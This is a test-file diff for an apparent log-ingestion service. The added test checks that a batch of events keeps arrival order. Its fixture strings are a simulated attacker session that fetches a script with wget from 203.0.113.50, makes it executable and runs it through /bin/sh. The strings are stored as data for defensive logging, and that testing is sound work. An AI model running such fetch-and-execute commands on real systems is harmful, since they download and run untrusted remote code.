@@ -45,6 +45,15 @@ describe('a batch is idempotent on the event id', () => {
     });
   });
 
+  it('stores a batch in arrival order, whatever its ids, so logs.id follows what the attacker did', async () => {
+    const commands = ['cd /tmp', 'wget http://203.0.113.50/x.sh', 'chmod +x x.sh', '/bin/sh -c ./x.sh', 'exit'];
+    // Ids are hashes: their order says nothing about arrival.
+    const ids = ['f1', '0a', '9c', '3e', 'b7'];
+    await writeBatch(database.pool, commands.map((cmd, i) => ingestEvent(ids[i] as string, { fields: { cmd } })), options);
+    const rows = (await database.pool.query<{ cmd: string }>(`SELECT fields->>'cmd' AS cmd FROM logs ORDER BY id`)).rows;
+    expect(rows.map((r) => r.cmd)).toEqual(commands);
+  });
+
   it('stores the remote sender (certificate CN) apart from the syslog hostname', async () => {
     await writeBatch(database.pool, [ingestEvent('tls-1', { sourceWorker: 'agent-07' }), ingestEvent('local-1')], options);
     const rows = (await database.pool.query('SELECT event_id, source_worker FROM logs ORDER BY event_id')).rows;
